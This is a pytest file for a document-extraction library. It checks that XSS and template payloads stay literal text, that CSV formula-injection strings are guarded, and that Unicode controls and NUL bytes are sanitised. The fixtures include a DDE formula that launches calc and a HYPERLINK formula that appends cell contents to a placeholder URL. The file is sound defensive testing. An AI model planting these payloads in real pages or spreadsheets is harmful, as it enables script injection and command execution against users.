"""Hostile text and values: catalogue T1, T5, T6, T9, T10, T11 (tests/CATALOGUE.md), and the
regression inputs in ``tests/regressions/`` (all formats).

=====  ===========================================================================
T1     cp1252 without BOM: names exact, ``encoding_guessed`` (and lower confidence)
T5     a file over ``limits.text_bytes``: ``failed: too_large``, never read whole
T6     HTML/XSS and template payloads stay literal text in values and CSV
T9     bidi / zero-width controls: the text is NFC, the document warns ``unicode_controls``
T10    CSV formula payloads are guarded in the CSV and round-trip through ``unguard``
T11    NUL, lone surrogates and C0/C1 controls never crash a writer: replaced by U+FFFD,
       counted in datapackage.json, noted in the value's reason
=====  ===========================================================================
"""

from __future__ import annotations

import csv
import json
import unicodedata
from pathlib import Path

import pytest

from structurize.api import ExtractionResult, extract_document, extract_folder
from structurize.errors import ReadFailure
from structurize.options import ExtractOptions, Limits
from structurize.readers import read_document
from structurize.readers.builder import UNICODE_CONTROLS
from structurize.readers.text import read_text
from structurize.types import DocStatus, DocumentResult, FieldValue, ValueStatus
from structurize.write import SANITISED_NOTE, unguard, write_outputs

from conftest import make_schema

RULES = ExtractOptions(ner=None)
REGRESSIONS = Path(__file__).parent / "regressions"
SCHEMA = make_schema(
    {"name": "employee", "type": "string", "extract": {"as": "person", "cues": ["employee"]}},
    {"name": "note", "type": "string", "extract": {"as": "text", "cues": ["note"]}},
)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def run(folder: Path, out: Path, schema=SCHEMA) -> ExtractionResult:
    result = extract_folder(folder, schema, options=ExtractOptions(ner=None, workers=0))
    write_outputs(result, out)
    return result


# --- T1: cp1252 without a byte-order mark ---------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [pytest.param("Hélène Lefèvre", id="T1-french"), pytest.param("Jürgen Müller", id="T1-german"), pytest.param("Loïc Bœuf", id="T1-oe-ligature")],
)
def test_t1_cp1252_names_are_exact_and_guessed(tmp_path, name):
    text = f"Employee: {name}\nNote: salary €52,000 – approved\n"
    (tmp_path / "cp1252.txt").write_bytes(text.encode("cp1252"))
    (tmp_path / "utf8.txt").write_bytes(text.encode("utf-8"))
    guessed = extract_document(tmp_path / "cp1252.txt", SCHEMA, options=RULES)
    known = extract_document(tmp_path / "utf8.txt", SCHEMA, options=RULES)
    assert guessed.encoding == "cp1252" and "encoding_guessed" in guessed.warnings
    assert guessed.value("employee").value == known.value("employee").value == name
    assert guessed.value("note").value == "salary €52,000 – approved"
    assert guessed.value("employee").confidence < known.value("employee").confidence  # guessed encoding ×0.9


# --- T5: too large ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".txt", ".md", ".html"])
def test_t5_over_the_size_cap_is_too_large_without_reading(tmp_path, monkeypatch, suffix):
    path = tmp_path / f"big{suffix}"
    with path.open("wb") as handle:  # a sparse 200 MB file with no newline (T5)
        handle.truncate(200 * 1024 * 1024)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("the whole file was read"))
    doc = read_document(path, path.name, RULES)
    assert (doc.status, doc.reason) == (DocStatus.FAILED, "too_large")
    assert "50 MB" in doc.note


def test_t5_a_file_that_grows_past_the_cap_is_caught_while_reading(tmp_path, monkeypatch):
    path = tmp_path / "growing.txt"
    path.write_bytes(b"Employee: Ana Ruiz\n" * 100)
    real_stat = Path.stat

    class Small:  # the size check sees 10 bytes; the read itself must still stop at the cap
        st_size = 10
        st_mode = real_stat(path).st_mode

    monkeypatch.setattr(Path, "stat", lambda self, **kw: Small() if self == path else real_stat(self, **kw))
    with pytest.raises(ReadFailure) as caught:
        read_text(path, path.name, ExtractOptions(ner=None, limits=Limits(text_bytes=1000)))
    assert caught.value.code == "too_large"


def test_t5_at_the_cap_reads(tmp_path):
    path = tmp_path / "edge.txt"
    path.write_bytes(b"Employee: Ana Ruiz\n" + b"x" * (1000 - 19))
    assert read_document(path, path.name, ExtractOptions(ner=None, limits=Limits(text_bytes=1000))).status is DocStatus.OK


# --- T6: HTML / XSS / template payloads stay literal ------------------------------------------------------------

PAYLOADS = [
    pytest.param("<img src=x onerror=alert(1)>", id="T6-img-onerror"),
    pytest.param('"><svg onload=alert(1)>', id="T6-svg-breakout"),
    pytest.param("</textarea><script>alert(1)</script>", id="T6-textarea-close"),
    pytest.param("{{7*7}}", id="T6-template-injection"),
    pytest.param("${7*7}", id="T6-template-dollar"),
    pytest.param("javascript:alert(1)", id="T6-javascript-url"),
]


def _html_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("fmt", ["txt", "html", "eml"])
def test_t6_payloads_are_literal_values(tmp_path, payload, fmt):
    folder = tmp_path / "in"
    folder.mkdir()
    if fmt == "txt":
        (folder / "doc.txt").write_text(f"Employee: Ana Ruiz\nNote: {payload}\n", encoding="utf-8")
    elif fmt == "html":
        (folder / "doc.html").write_text(
            f"<html><body><script>document.title='pwned'</script><p>Employee: Ana Ruiz</p><p>Note: {_html_escape(payload)}</p></body></html>",
            encoding="utf-8",
        )
    else:
        (folder / "doc.eml").write_bytes(
            b"From: hr@example.org\r\nTo: ana@example.org\r\nSubject: note\r\nDate: Fri, 14 Mar 2025 09:00:00 +0000\r\n"
            b"Content-Type: text/plain; charset=utf-8\r\n\r\nEmployee: Ana Ruiz\r\nNote: " + payload.encode() + b"\r\n"
        )
    out = tmp_path / "out"
    result = run(folder, out)
    assert result.documents[0].value("note").value == payload  # not rendered, not evaluated
    row = read_csv(out / "table.csv")[0]
    assert unguard(row["note"]) == payload
    assert "49" not in (out / "table.csv").read_text(encoding="utf-8-sig")  # {{7*7}} was not evaluated
    assert "pwned" not in (out / "values.csv").read_text(encoding="utf-8-sig")  # <script> content is dropped


# --- T9: bidi and zero-width controls ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("Ana\u200b Ruiz", id="T9-zero-width-space"),
        pytest.param("Ana\u200dRuiz", id="T9-zero-width-joiner"),
        pytest.param("\u202eziuR anA", id="T9-right-to-left-override"),
        pytest.param("Ana \u2066Ruiz\u2069", id="T9-isolate"),
        pytest.param("Rene\u0301 Dupont\u200e", id="T9-nfd-and-lrm"),
    ],
)
def test_t9_unicode_controls_are_flagged_and_text_is_nfc(tmp_path, name):
    path = tmp_path / "doc.txt"
    path.write_text(f"Employee: {name}\n", encoding="utf-8")
    doc = read_document(path, path.name, RULES)
    assert "unicode_controls" in doc.warnings
    assert unicodedata.is_normalized("NFC", doc.text)
    assert UNICODE_CONTROLS.search(doc.text)  # kept, so spans stay verbatim; shown, not hidden
    result = extract_document(path, SCHEMA, options=RULES)
    assert "unicode_controls" in result.warnings
    for item in result.values:  # a value never carries a control character silently
        if isinstance(item.value, str) and UNICODE_CONTROLS.search(item.value):
            assert item.status is not ValueStatus.OK


def test_t9_plain_names_do_not_warn(tmp_path):
    path = tmp_path / "doc.txt"
    path.write_text("Employee: René Dupont\n", encoding="utf-8")
    assert "unicode_controls" not in read_document(path, path.name, RULES).warnings


# --- T10, T11: what the writers get -------------------------------------------------------------------------------


def result_with(values: dict[str, object], *, source: str = "doc.txt", schema=None, note: str = "") -> ExtractionResult:
    schema = schema or make_schema({"name": "value", "type": "string"}, {"name": "amount", "type": "number"})
    items = tuple(
        FieldValue(name, values.get(name), 0.9, ValueStatus.OK if values.get(name) is not None else ValueStatus.MISSING, raw=str(values.get(name) or ""))
        for name in schema.field_names
    )
    document = DocumentResult(source=source, sha256="0" * 64, status=DocStatus.OK, note=note, values=items)
    return ExtractionResult(schema=schema, documents=(document,))


FORMULAS = [
    pytest.param('=HYPERLINK("http://x/?"&A1,"click")', id="T10-hyperlink"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="T10-dde"),
    pytest.param("+1+1", id="T10-plus"),
    pytest.param("-2+3", id="T10-minus"),
    pytest.param("\t=1+1", id="T10-tab"),
    pytest.param("\r=1+1", id="T10-cr"),
    pytest.param("\n=1+1", id="T10-lf"),
    pytest.param('x",=1+1', id="T10-separator-breakout"),
    pytest.param("'=1+1", id="T10-apostrophe-already"),
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_t10_formula_payloads_round_trip(tmp_path, payload):
    write_outputs(result_with({"value": payload}), tmp_path)
    table = read_csv(tmp_path / "table.csv")[0]
    assert table["value"].startswith("'") or not payload.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert unguard(table["value"]) == payload  # the re-import of our own CSV gets the value back
    values = [row for row in read_csv(tmp_path / "values.csv") if row["field"] == "value"][0]
    assert unguard(values["value"]) == payload


def test_t10_formula_payload_from_a_document_end_to_end(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "doc.txt").write_text('Employee: Ana Ruiz\nNote: =HYPERLINK("http://x/?"&A1,"click")\n', encoding="utf-8")
    run(folder, tmp_path / "out")
    raw = (tmp_path / "out" / "table.csv").read_text(encoding="utf-8-sig")
    assert "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"" in raw  # OWASP: quoted, doubled quotes, apostrophe


def test_t10_invalid_raw_text_in_a_typed_column_is_guarded(tmp_path):
    # a value that failed its number cast keeps its raw text; a typed column must not let it through as a formula
    write_outputs(result_with({"amount": "=1+1"}), tmp_path)
    assert read_csv(tmp_path / "table.csv")[0]["amount"] == "'=1+1"
    write_outputs(result_with({"amount": "-45.00"}), tmp_path)
    assert read_csv(tmp_path / "table.csv")[0]["amount"] == "-45.00"  # canonical numbers stay unprefixed


@pytest.mark.parametrize(
    "value, shown",
    [
        pytest.param("a\x00b", "a\ufffdb", id="T11-nul"),
        pytest.param("a\udc80b", "a\ufffdb", id="T11-lone-surrogate"),
        pytest.param("a\ud800", "a\ufffd", id="T11-high-surrogate"),
        pytest.param("a\x1b[2Jb", "a\ufffd[2Jb", id="T11-ansi-escape"),
        pytest.param("a\x07b\x7f", "a\ufffdb\ufffd", id="T11-bell-and-del"),
        pytest.param("a\x85b\x9b", "a\ufffdb\ufffd", id="T11-c1-controls"),
        pytest.param("\x00=1", "\ufffd=1", id="T11-nul-formula"),
    ],
)
def test_t11_unsafe_characters_never_crash_a_writer(tmp_path, value, shown):
    write_outputs(result_with({"value": value}, source="doc\udcff.txt", note="bad \x00 note"), tmp_path)
    table = read_csv(tmp_path / "table.csv")[0]
    assert table["value"] == shown
    assert table["document"] == "doc\ufffd.txt"
    values = [row for row in read_csv(tmp_path / "values.csv") if row["field"] == "value"][0]
    assert values["value"] == shown and SANITISED_NOTE in values["reason"]  # recorded on the value
    documents = read_csv(tmp_path / "documents.csv")[0]
    assert documents["note"] == "bad \ufffd note"
    package = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert package["structurize"]["sanitised_cells"] >= 3 and package["structurize"]["csv_formula_guard"] is True
    for produced in tmp_path.iterdir():
        data = produced.read_bytes().decode("utf-8")  # every output is valid UTF-8
        assert "\x00" not in data and "\x1b" not in data


def test_t11_clean_values_are_not_counted(tmp_path):
    write_outputs(result_with({"value": "Ana Ruiz\tand a tab"}), tmp_path)
    package = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert package["structurize"]["sanitised_cells"] == 0
    values = [row for row in read_csv(tmp_path / "values.csv") if row["field"] == "value"][0]
    assert SANITISED_NOTE not in values["reason"]


def test_t11_nul_and_surrogates_in_documents_end_to_end(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "nul.txt").write_bytes(b"Employee: Ana Ruiz\nNote: left\x1b[31m red\n")
    (folder / "mail.eml").write_bytes(
        b"From: =?x-unknown?Q?Jos=E9?= <jose@example.org>\r\nTo: hr@example.org\r\nSubject: Caf\xe9\r\n"
        b"Date: Fri, 14 Mar 2025 09:00:00 +0000\r\n\r\nEmployee: Ana Ruiz\r\nNote: a\x00b\r\n"
    )
    result = run(folder, tmp_path / "out")
    assert {doc.source: doc.status for doc in result.documents} == {"mail.eml": DocStatus.OK, "nul.txt": DocStatus.OK}
    for produced in (tmp_path / "out").iterdir():
        text = produced.read_bytes().decode("utf-8")
        assert "\x00" not in text and "\x1b" not in text


# --- regression inputs: small files that once broke a reader -------------------------------------------------------


def regression_cases() -> list:
    expected = json.loads((REGRESSIONS / "expected.json").read_text(encoding="utf-8"))
    return [pytest.param(name, case, id=name) for name, case in sorted(expected.items())]


def test_regressions_every_file_has_an_expectation():
    expected = json.loads((REGRESSIONS / "expected.json").read_text(encoding="utf-8"))
    files = {p.name for p in REGRESSIONS.iterdir() if p.is_file() and p.name not in ("expected.json", "README.md")}
    assert files == set(expected)


@pytest.mark.parametrize("name, case", regression_cases())
def test_regressions(tmp_path, name, case):
    path = REGRESSIONS / name
    doc = read_document(path, name, RULES)
    assert (str(doc.status), doc.reason) == (case["status"], case["reason"]), doc.note
    for warning in case.get("warnings", []):
        assert warning in doc.warnings
    result = extract_folder(path, SCHEMA, options=ExtractOptions(ner=None, workers=0))  # and the writers cope
    write_outputs(result, tmp_path / "out")
